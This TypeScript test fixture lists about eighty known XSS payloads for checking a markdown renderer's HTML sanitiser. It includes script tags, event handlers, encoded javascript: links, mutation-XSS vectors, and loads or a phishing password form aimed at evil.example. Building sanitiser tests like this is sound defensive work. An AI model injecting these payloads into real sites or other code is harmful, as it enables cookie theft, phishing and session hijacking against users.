// Known XSS payloads, fed to the markdown renderer and the HTML sanitiser by
// markdown.test.ts. Each is markdown text as a user could type it into a post or a
// comment; raw HTML inside markdown reaches the sanitiser untouched by marked.

export type XssVector = { name: string; input: string };

export const XSS_VECTORS: XssVector[] = [
  // Script elements
  { name: "plain script tag", input: "<script>alert(1)</script>" },
  { name: "script tag with src", input: '<script src="https://evil.example/x.js"></script>' },
  { name: "split script tag", input: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "script inside a markdown paragraph", input: "hello **world** <script>alert(document.cookie)</script> bye" },
  { name: "script inside template", input: "<template><script>alert(1)</script></template>" },
  { name: "script hidden in a title attribute", input: '<p title="</p><script>alert(1)</script>">x</p>' },

  // Event handlers
  { name: "img onerror", input: "<img src=x onerror=alert(1)>" },
  { name: "https img with onerror", input: '<img src="https://x.example/y.png" onerror="alert(1)">' },
  { name: "https img with onload", input: "<img src=https://x.example/y.png onload=alert(1)>" },
  { name: "svg onload", input: "<svg onload=alert(1)>" },
  { name: "svg/onload without space", input: "<svg/onload=alert(1)>" },
  { name: "svg with script child", input: "<svg><script>alert(1)</script></svg>" },
  { name: "svg animate href", input: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>' },
  { name: "body onload", input: "<body onload=alert(1)>" },
  { name: "details ontoggle", input: "<details open ontoggle=alert(1)><summary>x</summary></details>" },
  { name: "allowed tag a with onclick", input: '<a href="#" onclick="alert(1)">click</a>' },
  { name: "allowed tag a with onmouseover", input: '<a href="https://ok.example" onmouseover=alert(1)>hover</a>' },
  { name: "allowed tag p with onclick", input: "<p onclick=alert(1)>text</p>" },
  { name: "allowed tag input with onclick", input: '<input type="checkbox" onclick="alert(1)">' },
  { name: "allowed tag td with onmouseenter", input: "<table><tr><td onmouseenter=alert(1)>x</td></tr></table>" },
  { name: "upper-case event handler", input: "<b ONCLICK=alert(1)>bold</b>" },
  { name: "unknown element with handler", input: "<x onclick=alert(1)>x</x>" },
  { name: "video source onerror", input: "<video><source onerror=alert(1)></video>" },
  { name: "audio onerror", input: "<audio src=x onerror=alert(1)>" },
  { name: "marquee onstart", input: "<marquee onstart=alert(1)>x</marquee>" },
  { name: "input autofocus onfocus", input: "<input onfocus=alert(1) autofocus>" },

  // javascript:/data:/vbscript: links in markdown
  { name: "markdown javascript link", input: "[x](javascript:alert(1))" },
  { name: "markdown javascript link, mixed case", input: "[x](JaVaScRiPt:alert(1))" },
  { name: "markdown javascript link, entity-encoded j", input: "[x](&#106;avascript:alert(1))" },
  { name: "markdown javascript link, hex entities", input: "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))" },
  { name: "markdown javascript link, encoded colon", input: "[x](javascript&#58;alert(1))" },
  { name: "markdown javascript link, &colon;", input: "[x](javascript&colon;alert(1))" },
  { name: "markdown javascript link, leading spaces", input: "[x](   javascript:alert(1))" },
  { name: "markdown javascript link, angle brackets", input: "[x](<javascript:alert(1)>)" },
  { name: "markdown javascript link, encoded tab", input: "[x](java&#9;script:alert(1))" },
  { name: "markdown javascript link, encoded newline", input: "[x](java&#10;script:alert(1))" },
  { name: "markdown javascript link, leading control char", input: "[x](&#1;javascript:alert(1))" },
  { name: "markdown javascript link with title", input: '[x](javascript:alert(1) "title")' },
  { name: "markdown reference-style javascript link", input: "[x][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "markdown autolink with javascript scheme", input: "<javascript:alert(1)>" },
  { name: "markdown image with javascript src", input: "![x](javascript:alert(1))" },
  { name: "markdown data:text/html link", input: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
  { name: "markdown DATA: link, upper case", input: "[x](DATA:text/html,<script>alert(1)</script>)" },
  { name: "markdown data: image", input: "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)" },
  { name: "markdown vbscript link", input: "[x](vbscript:msgbox(1))" },

  // javascript:/data: in raw HTML attributes
  { name: "html a javascript href", input: '<a href="javascript:alert(1)">x</a>' },
  { name: "html a javascript href with entity tab", input: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: "html a javascript href with leading control", input: '<a href=" &#14; javascript:alert(1)">x</a>' },
  { name: "html a data href", input: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: "html a vbscript href", input: '<a href="VBScript:msgbox(1)">x</a>' },
  { name: "html img data src", input: '<img src="data:image/png;base64,iVBORw0KGgo=">' },
  { name: "html img javascript src", input: '<img src="javascript:alert(1)">' },
  { name: "table background javascript", input: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },

  // Embedding elements
  { name: "iframe javascript src", input: "<iframe src=javascript:alert(1)></iframe>" },
  { name: "iframe srcdoc", input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "object data", input: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>' },
  { name: "embed src", input: '<embed src="javascript:alert(1)">' },

  // Styles
  { name: "style attribute with expression", input: '<p style="width: expression(alert(1))">x</p>' },
  { name: "style element", input: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { name: "style element with import", input: "<style>@import 'https://evil.example/x.css';</style>" },

  // Forms
  { name: "form with javascript action", input: '<form action="javascript:alert(1)"><input type="submit" value="go"></form>' },
  { name: "password input phishing", input: '<form action="https://evil.example"><input type="password" name="p"></form>' },
  { name: "button formaction", input: '<button formaction="javascript:alert(1)">x</button>' },
  { name: "text input posing as a field", input: '<input type="text" value="your password">' },

  // Document-level elements
  { name: "meta refresh", input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: "base href", input: '<base href="javascript:/">' },
  { name: "link import", input: '<link rel="import" href="https://evil.example/x.html">' },
  { name: "link stylesheet", input: '<link rel="stylesheet" href="https://evil.example/x.css">' },

  // Mutation XSS
  { name: "mXSS noscript title", input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: "mXSS math mtext table mglyph style", input: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
  { name: "mXSS form math mglyph", input: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>" },
  { name: "mXSS svg p style", input: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: "mXSS math mi mglyph svg textarea", input: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">' },
  { name: "mXSS comment", input: "<!--<img src=x onerror=alert(1)>-->" },
  { name: "mXSS cdata", input: "<![CDATA[<img src=x onerror=alert(1)>]]>" },
  { name: "mXSS xmp", input: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { name: "mXSS in a markdown code span", input: "`<img src=x onerror=alert(1)>` and <img src=x onerror=alert(1)>" },

  // Unicode direction overrides (spoofing) combined with links
  { name: "RLO in link text with javascript target", input: "[\u202Egnp.exe](javascript:alert(1))" },
  { name: "RLO before a javascript scheme", input: "[x](\u202Ejavascript:alert(1))" },
  { name: "RLO text around raw html", input: "\u202Egnp.\u202Dexe <img src=x onerror=alert(1)>" },
];
